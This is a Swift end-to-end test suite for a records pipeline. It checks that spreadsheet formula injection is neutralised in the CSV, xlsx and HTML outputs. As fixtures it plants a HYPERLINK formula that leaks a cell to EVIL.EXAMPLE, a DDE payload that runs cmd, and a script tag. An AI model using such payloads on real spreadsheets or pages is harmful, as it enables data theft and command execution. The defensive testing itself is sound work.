import CSV
import Foundation
import Testing

/// Issue 12, item 4: values that a spreadsheet would run — from an export (codes, names,
/// dossier ids), from the catalogue (names), from the file system (file names) — are
/// neutralised with a leading `'` in every CSV, stay plain string cells in `onestop.xlsx`, and
/// are escaped in `report.html`. Numbers such as `-1` are left alone.
@Suite("End to end: formula injection in CSVs, the workbook and the report")
struct FormulaInjectionTests {
    /// What a spreadsheet would take for a formula; the values the export and catalogue plant.
    static let hyperlink = #"=HYPERLINK("HTTP://EVIL.EXAMPLE/?LEAK="&A1,"CLICK")"#  // ids are upper-cased
    static let calc = "-2+3+cmd|' /C calc'!A0"
    static let script = "<script>alert(1)</script>"

    struct Run {
        let scratch = Scratch("formula")
        let outcome: ChildProcess.Outcome
        var out: String { scratch.path + "/out" }

        init() throws {
            try scratch.write("catalogue.csv", """
                code,name,field,level,online,postal
                1.000001,"=CATALOGUE(""x"")",XD,province,full,yes

                """)
            try scratch.write("in/tinh.xml", dvcqgExport(
                Self.record(id: "A-1", code: "1.000001", name: "plain", agency: "+AGENCY", field: "=FIELD")
                    + Self.record(id: "A-2", code: "=SUM(1,2)", name: FormulaInjectionTests.calc, agency: "-1", field: "XD")
                    + Self.record(id: "LATE-1", code: "9.000009", name: FormulaInjectionTests.script, agency: "AG", field: "XD",
                                  late: true)))
            try scratch.write("in/=evil(1).xml", dvcqgExport(
                Self.record(id: FormulaInjectionTests.hyperlink, code: "9.000002", name: "x", agency: "AG", field: "XD",
                            received: "=1+2")))
            try scratch.write("in/\tevil.xml", dvcqgExport(
                Self.record(id: "@ID-1", code: "9.000002", name: "x", agency: "AG", field: "XD", received: "bad")))
            try scratch.write("pipeline.yaml", """
                pipeline: formula
                period: { from: 2022-01-01, to: 2022-12-31 }
                timezone: Asia/Ho_Chi_Minh
                catalogue: catalogue.csv
                dialects: \(repositoryRoot)/Pipelines/dialects
                sources:
                  - { name: tinh, level: province, dialect: dvcqg, files: "in/*.xml" }
                rules: { maxRejectRate: none }
                output: { directory: out, monthly: true, xlsx: true }
                """)
            outcome = try ChildProcess.run(["run", scratch.path + "/pipeline.yaml", "--quiet"], timeout: .seconds(60))
        }

        static func record(
            id: String, code: String, name: String, agency: String, field: String, received: String = "20221115083000",
            late: Bool = false
        ) -> String {
            func xml(_ text: String) -> String {
                text.replacingOccurrences(of: "&", with: "&amp;").replacingOccurrences(of: "<", with: "&lt;")
            }
            return """
                  <HoSo>
                    <MaHoSo>\(xml(id))</MaHoSo>
                    <MaTTHC>\(xml(code))</MaTTHC>
                    <TenTTHC>\(xml(name))</TenTTHC>
                    <MaLinhVuc>\(xml(field))</MaLinhVuc>
                    <DonViXuLy>\(xml(agency))</DonViXuLy>
                    <KenhThucHien>2</KenhThucHien>
                    <NgayTiepNhan>\(xml(received))</NgayTiepNhan>
                    <NgayHenTra>20221125170000</NgayHenTra>
                    <TrangThaiHoSo>\(late ? 10 : 4)</TrangThaiHoSo>\(late ? "\n        <NgayTra>20221212100000</NgayTra>" : "")
                  </HoSo>

                """
        }

        /// Every field of a CSV of the run, parsed as a spreadsheet would.
        func fields(_ name: String) throws -> [[String]] {
            let reader = try CSVReader(string: try read(out + "/" + name), hasHeaderRow: false)
            var rows: [[String]] = []
            while let row = reader.next() { rows.append(row) }
            return rows
        }
    }

    static let run = Result { try Run() }

    static let csvs = [
        "progress.csv", "procedures.csv", "agencies.csv", "agency_scorecard.csv", "monthly.csv", "figures.csv", "rejects.csv",
    ]

    @Test("No field of any CSV starts like a formula; the planted values are there with a '")
    func csvFieldsAreNeutralised() throws {
        let run = try Self.run.get()
        #expect(run.outcome.exitCode == 0, "\(run.outcome.stderr)")
        var all: [String] = []
        for name in Self.csvs {
            let rows = try run.fields(name)
            #expect(rows.count > 1, "\(name) has rows")
            for field in rows.joined() {
                all.append(field)
                guard let first = field.unicodeScalars.first else { continue }
                let number = field.range(of: #"^[-+]?[0-9]+(\.[0-9]+)?$"#, options: .regularExpression) != nil
                #expect(!"=+-@\t\r".unicodeScalars.contains(first) || number, "\(name): \(field.debugDescription)")
            }
        }
        // Rejected records' ids (accepted ones appear in no CSV), codes, names, file names.
        for planted in ["'" + Self.hyperlink, "'" + Self.calc, "'@ID-1", "'+AGENCY", "'=FIELD", "'=SUM(1,2)",
                        #"'=CATALOGUE("x")"#, "'=evil(1).xml", "'\tevil.xml"] {
            #expect(all.contains(planted), "\(planted.debugDescription) in a CSV")
        }
        #expect(try run.fields("agencies.csv").contains { $0.first == "-1" }, "a number is not touched")
    }

    @Test("The workbook holds the same values as plain string cells: no formula, no apostrophe")
    func workbookCellsAreStrings() throws {
        let run = try Self.run.get()
        let script = #"""
            import json, sys, zipfile
            book = zipfile.ZipFile(sys.argv[1])
            sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
            result = {"formulas": sum(book.read(n).decode().count("<f") for n in sheets), "inline": 0, "cells": None}
            result["inline"] = sum(book.read(n).decode().count('t="str"') for n in sheets)
            try:
                import openpyxl
            except ImportError:
                openpyxl = None
            if openpyxl:
                cells = []
                for sheet in openpyxl.load_workbook(sys.argv[1]).worksheets:
                    for row in sheet.iter_rows():
                        for cell in row:
                            if cell.value is not None:
                                cells.append([sheet.title, type(cell.value).__name__, cell.data_type, str(cell.value)])
                result["cells"] = cells
            json.dump(result, sys.stdout, ensure_ascii=False)
            """#
        let output = try pythonOutput(script, run.out + "/onestop.xlsx")
        let result = try #require(try JSONSerialization.jsonObject(with: Data(output.utf8)) as? [String: Any])
        #expect((result["formulas"] as? NSNumber)?.intValue == 0, "no <f> element in any sheet")
        #expect((result["inline"] as? NSNumber)?.intValue == 0, "no formula-result string cell")
        guard let cells = result["cells"] as? [[String]] else {
            #expect(ProcessInfo.processInfo.environment["ONESTOP_REQUIRE_OPENPYXL"] != "1", "openpyxl is required")
            return
        }
        for planted in [Self.hyperlink, Self.calc, "@ID-1", "+AGENCY", "=FIELD", "=SUM(1,2)", #"=CATALOGUE("x")"#,
                        "=evil(1).xml", "\tevil.xml"] {
            let found = cells.filter { $0[3] == planted }
            #expect(!found.isEmpty, "\(planted.debugDescription) read back as it is")
            for cell in found { #expect(cell[1] == "str" && cell[2] == "s", "\(cell)") }
        }
        #expect(!cells.contains { $0[3].hasPrefix("'") }, "no apostrophe in the workbook")
    }

    @Test("report.html escapes a <script> procedure name")
    func reportEscapesScript() throws {
        let run = try Self.run.get()
        let page = try read(run.out + "/report.html")
        #expect(page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "the late procedure's name, escaped")
        #expect(!page.lowercased().contains("<script"))
    }
}

/// Standard output of `python3 -c script argument`.
func pythonOutput(_ script: String, _ argument: String) throws -> String {
    let process = Process()
    process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
    process.arguments = ["python3", "-c", script, argument]
    let output = FileManager.default.temporaryDirectory.appendingPathComponent("onestop-py-\(UUID().uuidString)")
    _ = FileManager.default.createFile(atPath: output.path, contents: nil)
    defer { try? FileManager.default.removeItem(at: output) }
    process.standardOutput = try FileHandle(forWritingTo: output)
    process.standardError = FileHandle.nullDevice
    process.standardInput = FileHandle.nullDevice
    try process.run()
    process.waitUntilExit()
    try #require(process.terminationStatus == 0, "python3 failed on \(argument)")
    return try String(contentsOf: output, encoding: .utf8)
}
